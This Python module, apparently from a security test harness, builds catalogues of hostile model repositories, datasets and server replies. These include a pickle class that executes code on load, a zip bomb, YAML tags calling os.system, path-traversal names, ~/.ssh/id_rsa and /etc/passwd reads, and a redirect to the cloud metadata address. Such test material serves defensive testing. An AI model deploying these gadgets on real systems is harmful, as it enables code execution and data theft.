"""What a stranger's repository may hold, and what a server may answer.

An attack is a change of an honest model, a data set of its own, or a fault of the server.
"""

import io
import json
import pickle
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pyarrow as pa
import torch
from evaluation.tiny import NAMES, make_images
from pyarrow import parquet

from campaigns.hostile_hub.ground import Ground

Files = dict[str, bytes | None]
INDEX = "model.safetensors.index.json"
WEIGHTS = "model.safetensors"
# Ends a block and begins others; HTML, a link; colours, a title for the terminal, a bell; turned writing.
WORDS = "x\n```\n\n```python\nimport os\n```\n<script>x</script>[a](http://b)\x1b[31m\x1b]0;t\x07\u202egnp $$h$$ {{1}}"


@dataclass(frozen=True)
class Attack:
    """A hostile repository.

    Attributes:
        files: what differs from the honest one; None: is not there.
        large: of these, what lies in the Hub's storage.
        faults: (path, action, fields) of the server, see `loopback.handler`.
        settings: of the repository, see `Loopback.settings`.
    """

    files: Files = field(default_factory=dict)
    large: tuple[str, ...] = ()
    faults: tuple[tuple[str, str, dict[str, Any]], ...] = ()
    settings: dict[str, Any] = field(default_factory=dict)


Make = Callable[[Ground, dict[str, bytes]], Attack]


class Run:
    """Unpickled, it runs code."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self.code,)


def fill(value: Any, ground: Ground) -> Any:
    """The value with the places of a ground in all its words: {outside}, {elsewhere}, {host}."""
    if isinstance(value, dict):
        return {name: fill(each, ground) for name, each in value.items()}
    if isinstance(value, list):
        return [fill(each, ground) for each in value]
    if not isinstance(value, str):
        return value
    places = {
        "{outside}": ground.outside,
        "{elsewhere}": ground.elsewhere,
        "{host}": ground.elsewhere.partition("//")[2],
    }
    for name, place in places.items():
        value = value.replace(name, str(place))
    return value


def changed(base: dict[str, bytes], name: str = "config.json", **fields: Any) -> Files:
    """A JSON file with other fields."""
    return {name: json.dumps(json.loads(base[name]) | fields).encode()}


def code(ground: Ground) -> Files:
    names = ("modeling_evil", "configuration_evil", "processing_evil", "__init__", "sitecustomize", "usercustomize",
             "conftest", "setup", "hubconf", "transformers", "hf_vit", "safetensors", "torch", "PIL")  # fmt: skip
    module = f"{ground.payload}class Evil: pass\nclass EvilConfig: pass\n"
    return {f"{name}.py": module.encode() for name in names}


def with_code(name: str = "config.json", **fields: Any) -> Make:
    """Code, and fields of the config that ask for it."""
    return lambda ground, base: Attack({**code(ground), **changed(base, name, **fields)})


def with_config(name: str = "config.json", **fields: Any) -> Make:
    return lambda ground, base: Attack(changed(base, name, **fill(fields, ground)))


def whole(name: str, content: Any) -> Make:
    """Another file in place of one."""
    data = content if isinstance(content, bytes) else json.dumps(content).encode()
    return lambda ground, base: Attack({name: data})


def indexed(name: str, alone: bool = True) -> Make:
    """A weight index that names a file, alone or beside the single file."""

    def make(ground: Ground, base: dict[str, bytes]) -> Attack:
        keys = json.loads(base[WEIGHTS][8 : 8 + int.from_bytes(base[WEIGHTS][:8], "little")])
        index = {"metadata": {}, "weight_map": {key: fill(name, ground) for key in keys if key != "__metadata__"}}
        return Attack({**({WEIGHTS: None} if alone else {}), INDEX: json.dumps(index).encode()})

    return make


def pickled(name: str, old: bool) -> Make:
    """A pickle that runs code, as torch writes files now, or as it did and as pickle itself does."""

    def make(ground: Ground, base: dict[str, bytes]) -> Attack:
        content = io.BytesIO()
        payload = {"classifier.weight": Run(ground.payload)}
        if old:
            pickle.dump(payload, content)
        else:
            torch.save(payload, content)
        return Attack({WEIGHTS: None, name: content.getvalue()}, (name,))

    return make


def named(name: str) -> Make:
    """One more file of this name, and the card shows it."""

    def make(ground: Ground, base: dict[str, bytes]) -> Attack:
        card = base["README.md"] + f"\n![x]({name})\n".encode()
        return Attack({name: ground.payload.encode(), "README.md": card})

    return make


def facts(**fields: Any) -> Make:
    """Records with hostile words wherever one can stand."""
    record = {
        "kind": "training", "command": WORDS, "date": "2031-02-03T00:00:00Z", "seed": 0,
        "data": {"name": WORDS, "split": WORDS, "size": 3}, "versions": {WORDS: WORDS},
        "hardware": {"name": WORDS, "device": WORDS}, "seconds": 1.0,
        "values": {"recipe": {WORDS: WORDS, "batch_size": 1}, "steps": 1, "base_model": WORDS, WORDS: WORDS,
                   "pictures": {"../outside/private.png": WORDS, "../../x.png": "x"}},
    }  # fmt: skip
    return whole("facts.json", [record | fields])


def architecture(architecture: str = "vit_tiny_patch16_224", wrapped: bool = False, **fields: Any) -> Make:
    """A model of timm, whose config says how it is built; or the same as transformers knows it."""

    def make(ground: Ground, base: dict[str, bytes]) -> Attack:
        args = {"img_size": 32, "depth": 1, "num_heads": 1, "embed_dim": 16, **fields}
        config = {"architecture": architecture, "num_classes": 6, "pretrained_cfg": {"architecture": "x"},
                  "model_args": args}  # fmt: skip
        if wrapped:
            config |= {"model_type": "timm_wrapper", "architectures": ["TimmWrapperForImageClassification"]}
        return Attack({"config.json": json.dumps(fill(config, ground)).encode()})

    return make


def adapter(ground: Ground, base: dict[str, bytes], complete: bool) -> Attack:
    """An adapter of PEFT, whose base model lies in another place."""
    config = {"peft_type": "LORA", "base_model_name_or_path": str(ground.outside), "r": 2, "target_modules": ["q_proj"],
              "auto_mapping": {"base_model_class": "Evil", "parent_library": "modeling_evil"}}  # fmt: skip
    files: Files = {**code(ground), "adapter_config.json": json.dumps(config).encode()}
    return Attack(files if complete else {**files, "config.json": None, WEIGHTS: None})


def zip_bomb() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.pkl", bytes(50_000_000))
        archive.writestr("../../escaped", "x")
    return content.getvalue()


_EVERYTHING = {
    "AutoConfig": "configuration_evil.EvilConfig", "AutoModel": "modeling_evil.Evil",
    "AutoModelForImageClassification": "modeling_evil.Evil", "AutoModelForMaskedImageModeling": "modeling_evil.Evil",
    "AutoBackbone": "modeling_evil.Evil", "AutoImageProcessor": "processing_evil.Evil",
    "AutoProcessor": "processing_evil.Evil",
}  # fmt: skip
WRONG = {"null": None, "number": 3, "text": "x", "list": [], "nested": [[[]]], "object": {"a": {}}, "words": WORDS}
_FIELDS = ("hidden_size", "patch_size", "image_size", "id2label", "architectures", "model_type", "num_channels",
           "num_hidden_layers", "dtype", "quantization_config", "auto_map", "pooling")  # fmt: skip
_PROCESSOR_FIELDS = ("size", "image_mean", "resample", "image_processor_type", "do_resize")

MODEL_ATTACKS: dict[str, Make] = {
    "honest": lambda ground, base: Attack(),
    # Code
    "code: auto_map": with_code(auto_map=_EVERYTHING),
    "code: auto_map of a new type": with_code(auto_map=_EVERYTHING, model_type="evil", architectures=["Evil"]),
    "code: auto_map of no type": with_code(auto_map=_EVERYTHING, model_type="", architectures=None),
    "code: auto_map of another repository": with_code(auto_map={key: f"mallory/code--{value}" for key,
        value in _EVERYTHING.items()}, model_type="evil"),
    "code: auto_map as text": with_code(auto_map="modeling_evil.Evil"),
    "code: auto_map with lists": with_code(auto_map={key: [value, value] for key, value in _EVERYTHING.items()}),
    "code: auto_map with nothing": with_code(auto_map=dict.fromkeys(_EVERYTHING), model_type="evil"),
    "code: trust_remote_code in the config": with_code(auto_map=_EVERYTHING, model_type="evil", trust_remote_code=True,
        code_revision="main"),
    "code: syntax error": lambda ground, base: Attack({"modeling_evil.py": b"def (", **changed(base,
        auto_map=_EVERYTHING, model_type="evil")}),
    "code: of the processor": with_code("preprocessor_config.json", auto_map=_EVERYTHING, image_processor_type="Evil",
        trust_remote_code=True),
    "code: of the known processor": with_code("preprocessor_config.json", auto_map=_EVERYTHING),
    "code: processor_config.json": lambda ground, base: Attack({**code(ground), "preprocessor_config.json": None,
        "processor_config.json": json.dumps({"auto_map": _EVERYTHING, "processor_class": "Evil",
        "image_processor": {"auto_map": _EVERYTHING}}).encode()}),
    "code: in place of ours": lambda ground,
        base: Attack({name: f"{ground.payload}".encode() for name in base if name.endswith(".py")} | code(ground)),
    "code: attention from the Hub": with_code(attn_implementation="mallory/kernel",
        _attn_implementation="mallory/kernel"),
    "code: custom generation": lambda ground, base: Attack({"custom_generate/generate.py": ground.payload.encode(),
        "generation_config.json": b"{}", **code(ground)}),
    # Pickles
    **{
        f"pickle: {name}{', old' * old}": pickled(name, old)
        for name in ("pytorch_model.bin", "model.pth", "training_args.bin", "model.ckpt", "weights.pkl")
        for old in (False, True)
    },
    "pickle: in place of safetensors": lambda ground, base: Attack({WEIGHTS: pickle.dumps(Run(ground.payload))},
        (WEIGHTS,)),
    "pickle: indexed": lambda ground, base: Attack({**pickled("part.bin", True)(ground, base).files,
        "pytorch_model.bin.index.json": b'{"metadata": {}, "weight_map": {"classifier.weight": "part.bin"}}'}),
    "pickle: a bomb": lambda ground, base: Attack({WEIGHTS: None, "pytorch_model.bin": zip_bomb()},
        ("pytorch_model.bin",)),
    "pickle: adapter_model.bin": lambda ground, base: Attack({**adapter(ground, base, True).files,
        "adapter_model.bin": pickle.dumps(Run(ground.payload))}),
    # Other places
    "place: adapter": lambda ground, base: adapter(ground, base, False),
    "place: adapter beside a model": lambda ground, base: adapter(ground, base, True),
    "place: transformers_weights": with_config(transformers_weights="{outside}/model.safetensors"),
    "place: transformers_weights above": with_config(transformers_weights="../../../x.safetensors"),
    "place: _name_or_path": with_config(_name_or_path="{outside}", name_or_path="/etc"),
    "place: backbone": with_config(backbone="{outside}", use_pretrained_backbone=True, use_timm_backbone=False),
    "place: a detector's backbone": with_config(model_type="detr", backbone="local-dir:{outside}",
        use_timm_backbone=True, backbone_config=None, architectures=["DetrForObjectDetection"]),
    "place: timm pretrained_cfg": architecture(pretrained_cfg="{outside}/model.safetensors"),
    **{
        f"place: {'wrapped' if wrapped else name} {kind}": architecture(wrapped=wrapped, **fields)
        for wrapped in (False, True)
        for name, kind, fields in (
            ("timm", "checkpoint_path", {"checkpoint_path": "{outside}/model.safetensors"}),
            ("timm", "cache_dir", {"cache_dir": "{outside}/cache"}),
            ("timm", "architecture", {"architecture": "local-dir:{outside}"}),
            ("timm's", "of another repository", {"architecture": "hf-hub:mallory/code"}),
        )
    },
    # Indexes
    **{
        f"index: {kind}": indexed(name)
        for kind, name in {
            "absolute": "{outside}/model.safetensors", "above": "../" * 11 + "..{outside}/model.safetensors",
            "address": "{elsewhere}/model.safetensors", "file address": "file://{outside}/model.safetensors",
            "of another repository": "../../../models--alice--private/snapshots/main/model.safetensors",
            "itself": INDEX, "the config": "config.json", "control characters": "a\n\x1b[31m\0b.safetensors",
            "nothing": "", "very long": "a" * 5000 + ".safetensors",
        }.items()
    },
    "index: beside the single file": indexed("{outside}/model.safetensors", alone=False),
    **{
        f"index: {kind}": lambda ground, base, value=value: Attack({WEIGHTS: None, INDEX: json.dumps(value).encode()})
        for kind, value in {
            "a list": [], "no map": {}, "a map of lists": {"weight_map": {"a": []}, "metadata": {}},
            "a map of nothing": {"metadata": None, "weight_map": None},
        }.items()
    },
    # Configs and processors of wrong types
    **{f"config: {name} {kind}": with_config(**{name: value}) for name in _FIELDS for kind, value in WRONG.items()},
    **{
        f"processor: {name} {kind}": with_config("preprocessor_config.json", **{name: value})
        for name in _PROCESSOR_FIELDS
        for kind, value in WRONG.items()
    },
    **{
        f"{name}: {kind}": whole(f"{name}.json", value)
        for name in ("config", "preprocessor_config", "facts")
        for kind, value in {
            "a list": [], "a number": 1, "nothing": b"", "cut": b'{"a": ', "bytes": bytes(range(256)),
            "deep": b"[" * 100_000, "NaN": b'{"hidden_size": NaN}',
            "huge numbers": b'{"hidden_size": 1' + b"0" * 5000 + b"}",
        }.items()
    },
    "config: huge": with_config(num_hidden_layers=10**9),
    "config: wide": with_config(hidden_size=10**9, intermediate_size=10**9),
    "config: labels with words": with_config(id2label={str(i): f"{WORDS}{i}" for i in range(6)}),
    "facts: words": facts(),
    "facts: a picture above": facts(kind="analysis"),
    "facts: an evaluation": facts(kind="evaluation"),
    "facts: a conversion": facts(kind="conversion"),
    "card: words": whole("README.md", f"---\nlicense: mit\n---\n{WORDS}\n".encode()),
    "card: YAML that runs": whole("README.md", b"---\nlicense: !!python/object/apply:os.system ['true']\n---\n"),
    "card: a bomb": whole("README.md", b"---\na: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nlicense: *c\n---\n"),
    "card: pictures outside": lambda ground,
        base: Attack({"README.md": base["README.md"] + f"![x]({ground.outside}/private.png) ![y](../x.png)".encode()}),
    "card: includes": whole("README.md", b"---\nlicense: mit\n---\n{% include '/etc/passwd' %}{{ self.__init__ }}\n"),
    # Names
    **{
        f"name: {kind}": named(name)
        for kind, name in {
            "above": "../evil.py", "far above": "../../../../../../../../evil.py", "absolute": "/tmp/hf_vit_evil",
            "control characters": "a\x1b[31m\nb.txt", "bidi": "a\u202egnp.exe", "very long": "a" * 300,
            "very deep": "d/" * 200 + "x", "case": "CONFIG.JSON", "reserved": "aux.json", "drive": "C:\\evil.py",
            "backslash": "..\\evil.py", "dots": "...", "git": ".git/config", "space": " ",
            "percent": "%2e%2e%2fevil.py", "home": "~/evil.py", "dash": "--trust-remote-code",
        }.items()
    },
}  # fmt: skip


# Data sets

_FEATURES = {
    "info": {"features": {"image": {"_type": "Image"}, "label": {"names": list(NAMES), "_type": "ClassLabel"}}}
}
Rows = list[dict[str, Any]]


def png(number: int) -> bytes:
    content = io.BytesIO()
    make_images(6)[number % 6].save(content, "png")
    return content.getvalue()


def table(rows: Rows, names: list[str] | None = None) -> bytes:
    """A parquet file of images ({"bytes", "path"}) and labels."""
    features = json.loads(json.dumps(_FEATURES))
    features["info"]["features"]["label"]["names"] = names or list(NAMES)
    image = pa.struct([("bytes", pa.binary()), ("path", pa.string())])
    schema = pa.schema([("image", image), ("label", pa.int64())], metadata={"huggingface": json.dumps(features)})
    arrays = {
        "image": [{"bytes": row.get("bytes"), "path": row.get("path")} for row in rows],
        "label": [row["label"] for row in rows],
    }
    content = io.BytesIO()
    parquet.write_table(pa.table(arrays, schema=schema), content)
    return content.getvalue()


def honest_rows(count: int = 36) -> Rows:
    return [{"bytes": png(number), "path": f"{number}.png", "label": number % 6} for number in range(count)]


def honest(split: str = "train") -> Files:
    return {f"data/{split}-00000-of-00001.parquet": table(honest_rows())}


def holding(files: Callable[[Ground], Files]) -> Make:
    """Files; what is no text lies in the storage."""

    def make(ground: Ground, base: dict[str, bytes]) -> Attack:
        made = files(ground)
        return Attack(made, tuple(name for name, data in made.items() if data is not None and b"\0" in data))

    return make


def described(configurations: str) -> bytes:
    """A card."""
    return f"---\nconfigs:\n{configurations}\n---\n".encode()


def declared(pattern: str) -> Make:
    """A card that says where the data lie."""
    return holding(
        lambda ground: {
            **honest(),
            "README.md": described(f"- config_name: default\n  data_files: {json.dumps(fill(pattern, ground))}"),
        }
    )


def pointing(path: str) -> Make:
    """Rows without images, that say where these lie."""
    return holding(
        lambda ground: {
            "data/train.parquet": table(
                honest_rows() + [{"path": fill(path, ground), "label": number} for number in range(6)]
            )
        }
    )


def listed(file_name: str) -> Make:
    """Images in folders, and a table that says which file is what."""

    def files(ground: Ground) -> Files:
        names = [f"{number}.png" for number in range(18)]
        lines = [f"{name},{NAMES[number % 6]}" for number, name in enumerate(names)]
        rows = "\n".join(["file_name,label", *lines, f"{fill(file_name, ground)},ant"])
        images = {f"train/{name}": png(number) for number, name in enumerate(names)}
        return {**images, "train/metadata.csv": rows.encode()}

    return holding(files)


def tarred(name: str, content: Callable[[Ground], bytes]) -> Make:
    """Images in a tar file, beside a member of another kind."""

    def files(ground: Ground) -> Files:
        data = io.BytesIO()
        with tarfile.open(fileobj=data, mode="w") as archive:
            for number in range(36):
                members = {f"{number}.png": png(number), f"{number}.cls": str(number % 6).encode()}
                for member, held in {**members, name.format(number): content(ground)}.items():
                    info = tarfile.TarInfo(member)
                    info.size = len(held)
                    archive.addfile(info, io.BytesIO(held))
        return {"train.tar": data.getvalue()}

    return holding(files)


def _link(ground: Ground) -> Files:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as archive:
        for number in range(36):
            info = tarfile.TarInfo(f"{number}.png")
            info.type, info.linkname = tarfile.SYMTYPE, f"{ground.outside}/private.png"
            archive.addfile(info)
            label = tarfile.TarInfo(f"{number}.cls")
            label.size = 1
            archive.addfile(label, io.BytesIO(b"1"))
    return {"train.tar": data.getvalue()}


DATA_ATTACKS: dict[str, Make] = {
    "honest": holding(lambda ground: honest()),
    "code: a script": holding(lambda ground: {"hostile.py": ground.payload.encode(),
        "data.py": ground.payload.encode()}),
    "code: a script beside data": holding(lambda ground: {**honest(), "hostile.py": ground.payload.encode()}),
    "pickle: a table": holding(lambda ground: {"train.pkl": pickle.dumps(Run(ground.payload))}),
    "pickle: declared": holding(lambda ground: {"train.pkl": pickle.dumps(Run(ground.payload)),
        "README.md": described("- config_name: default\n  data_files: train.pkl\n  builder_name: pandas")}),
    **{
        f"pickle: in a tar, {suffix}": tarred("{}." + suffix, lambda ground: pickle.dumps(Run(ground.payload)))
        for suffix in ("pkl", "pyd", "pickle", "pth", "pt", "npy", "npz", "ten", "cbor", "mp")
    },
    "place: a file": declared("{outside}/private.png"),
    "place: files": declared("{outside}/*"),
    "place: a file address": declared("file://{outside}/private.png"),
    "place: above": declared("../" * 11 + "..{outside}/private.png"),
    "place: elsewhere": declared("{elsewhere}/train.parquet"),
    "place: another repository": declared("hf://datasets/alice/private/data/train.parquet"),
    "place: chained": declared("zip://*::{outside}/private.txt"),
    "place: home": declared("~/.ssh/id_rsa"),
    "row: a file": pointing("{outside}/private.png"),
    "row: a file address": pointing("file://{outside}/private.png"),
    "row: above": pointing("../" * 11 + "..{outside}/private.png"),
    "row: elsewhere": pointing("{elsewhere}/x.png"),
    "row: another repository": pointing("hf://datasets/alice/private/x.png"),
    "row: chained": pointing("zip://x.png::{outside}/private.txt"),
    "list: a file": listed("{outside}/private.png"),
    "list: above": listed("../" * 11 + "..{outside}/private.png"),
    "list: elsewhere": listed("{elsewhere}/x.png"),
    "link: in a tar": holding(_link),
    "words: labels": holding(lambda ground: {"data/train.parquet": table(honest_rows(),
        [f"{WORDS}{number}" for number in range(6)])}),
    "words: names of images": pointing(WORDS),
    "card: words": holding(lambda ground: {**honest(), "README.md": described(f"- {json.dumps(WORDS)}")}),
    "card: features": holding(lambda ground: {**honest(),
        "README.md": b"---\ndataset_info:\n  features:\n  - name: image\n    dtype: !!python/name:os.system\n---\n"}),
    "infos: words": holding(lambda ground: {**honest(), "dataset_infos.json": json.dumps({"default": WORDS}).encode()}),
    "damaged": holding(lambda ground: {"data/train.parquet": b"PAR1\0\0\0\0PAR1"}),
    "nothing": holding(lambda ground: {}),
}  # fmt: skip


# Servers


def served(path: str, action: str, **fields: Any) -> Make:
    """A fault of `loopback.handler` that strikes always."""
    return lambda ground, base: Attack(faults=((path, action, {"times": -1, **fill(fields, ground)}),))


def redirected(path: str, place: str, status: int = 302) -> Make:
    return served(path, "status", status=status, headers={"Location": place})


def answered(path: str, body: Any, status: int = 200) -> Make:
    return served(path, "status", status=status, body=body, message="x")


def headed(path: str, **headers: Any) -> Make:
    """Other headers; "_" stands for "-"."""
    return served(path, "headers", headers={name.replace("_", "-"): value for name, value in headers.items()})


def refused(status: int, **fields: Any) -> Make:
    return served("mallory", "status", status=status, **fields)


_FILE, _STORED = r"/resolve/", r"^/get/|^/xorb/"
SERVER_ATTACKS: dict[str, Make] = {
    "redirect: files elsewhere": redirected(_FILE, "{elsewhere}/x"),
    "redirect: files elsewhere, 307": redirected(_FILE, "{elsewhere}/x", 307),
    "redirect: the API elsewhere": redirected("/api/", "{elsewhere}/x"),
    "redirect: the API elsewhere, 308": redirected("/api/", "{elsewhere}/x", 308),
    "redirect: storage elsewhere": redirected(_STORED, "{elsewhere}/x"),
    "redirect: without scheme": redirected(_FILE, "//{host}/x"),
    "redirect: a file": redirected(_FILE, "file://{outside}/model.safetensors"),
    "redirect: a private address": redirected(_FILE, "http://169.254.169.254/latest/meta-data/"),
    "redirect: a loop": redirected(_FILE, "/mallory/hostile/resolve/main/config.json"),
    "redirect: nowhere": redirected(_FILE, ""),
    "redirect: words": redirected(_FILE, "http://a b\u00e9/"),
    **{
        f"size: {kind}": headed(_FILE, X_Linked_Size=size)
        for kind, size in {
            "longer": 10**6, "shorter": 1, "nothing": 0, "huge": 10**18, "negative": -5, "no number": "x"
        }.items()
    },
    "length: longer": headed(_STORED, Content_Length=10**6, Connection="close"),
    "length: shorter": headed(_STORED, Content_Length=10),
    "etag: above": headed(_FILE, ETag='"../../../../evil"', X_Linked_Etag='"../../../../evil"'),
    "etag: absolute": headed(_FILE, ETag='"{outside}/x"', X_Linked_Etag='"{outside}/x"'),
    "etag: nothing": headed(_FILE, ETag="", X_Linked_Etag=""),
    "etag: wrong": headed(_FILE, X_Linked_Etag='"' + "a" * 64 + '"'),
    "commit: above": headed(_FILE, X_Repo_Commit="../../../../evil"),
    "commit: nothing": headed(_FILE, X_Repo_Commit=""),
    "xet: another store": headed(
        _FILE, X_Xet_Refresh_Route="{elsewhere}/token", Link='<{elsewhere}/t>; rel="xet-auth"'
    ),
    "damaged": served(_STORED, "corrupt_response"),
    "cut": served(_STORED, "cut_response", after=100),
    "gated": lambda ground, base: Attack(settings={"gated": True}),
    "private": lambda ground, base: Attack(settings={"private": True}),
    "answer: 401": refused(401, message=WORDS.replace("\u202e", "")[:40]),
    "answer: 403 with words": refused(403, message="\x1b[31mx\x07" * 9),
    "answer: 404": refused(404),
    "answer: 418 with a page": refused(418, message="<html>" * 3000),
    "answer: lists": served("/api/", "status", status=200, body=[]),
    "answer: nothing": served("/api/", "status", status=200, body={}),
    "answer: words": served("/api/", "status", status=200, body={"sha": "../../../evil", "id": WORDS,
        "siblings": [{"rfilename": "../../evil"}], "gated": WORDS}),
}  # fmt: skip


def batch(**places: str) -> Make:
    """Where the server wants an LFS object."""
    actions = {name: {"href": place} for name, place in places.items()}
    return answered("/info/lfs/", {"transfer": "basic", "objects": [{"oid": "a" * 64, "size": 1, "actions": actions}]})


# What a server may answer to a push.
PUSH_ATTACKS: dict[str, Make] = {
    "honest": lambda ground, base: Attack(),
    "who: words": answered("/whoami", {"type": "user", "name": WORDS, "orgs": WORDS, "auth": WORDS}),
    "who: nothing": answered("/whoami", {}),
    "who: a list": answered("/whoami", []),
    "who: elsewhere": redirected("/whoami", "{elsewhere}/who"),
    "card: elsewhere": redirected("/validate-yaml", "{elsewhere}/card", 308),
    "card: words": answered("/validate-yaml", {"errors": [{"message": WORDS}]}, 400),
    "card: a list": answered("/validate-yaml", [WORDS], 400),
    "create: elsewhere": redirected("/repos/create", "{elsewhere}/create", 307),
    "create: words": answered("/repos/create", {"url": WORDS}),
    "create: nothing": answered("/repos/create", {}),
    "preupload: elsewhere": redirected("/preupload/", "{elsewhere}/pre", 307),
    "preupload: nothing": answered("/preupload/", {"files": []}),
    "preupload: words": answered("/preupload/", {"files": [{"path": "../x", "uploadMode": WORDS,
        "shouldIgnore": True}]}),
    "batch: elsewhere": batch(upload="{elsewhere}/up", verify="{elsewhere}/verify"),
    "batch: a file": batch(upload="file://{outside}/x"),
    "batch: nothing": answered("/info/lfs/", {}),
    "batch: words": answered("/info/lfs/", {"objects": [{"error": {"code": 1, "message": WORDS}}]}),
    "xet: elsewhere": served("/xet-write-token/", "status", status=200, body={"accessToken": "t",
        "casUrl": "{elsewhere}", "exp": 4 * 10**9}, headers={"X-Xet-Cas-Url": "{elsewhere}", "X-Xet-Access-Token": "t",
        "X-Xet-Token-Expiration": 4 * 10**9}),
    "xet: nothing": answered("/xet-write-token/", {}),
    "storage: elsewhere": redirected("^/lfs/|^/xet/", "{elsewhere}/store", 307),
    "commit: elsewhere": redirected("/commit/", "{elsewhere}/commit", 307),
    "commit: words": answered("/commit/", {"commitOid": WORDS, "commitUrl": WORDS, "success": True}),
    "commit: nothing": answered("/commit/", {}),
    "commit: a page": answered("/commit/", "<html>" * 100),
    "tree: elsewhere": redirected("/tree/", "{elsewhere}/tree"),
    "tree: words": answered("/tree/", [{"type": "file", "path": "../x", "oid": WORDS, "size": -1}]),
    "refs: words": answered("/refs", {"branches": [], "tags": [], "converts": []}),
    "all: 500 with words": answered("/api/", {"error": WORDS * 50}, 500),
    "all: 401": answered("/api/", {"error": WORDS}, 401),
    "all: 403": answered("/api/", {"error": WORDS}, 403),
    "all: 426": answered("/api/", {"error": WORDS}, 426),
}  # fmt: skip
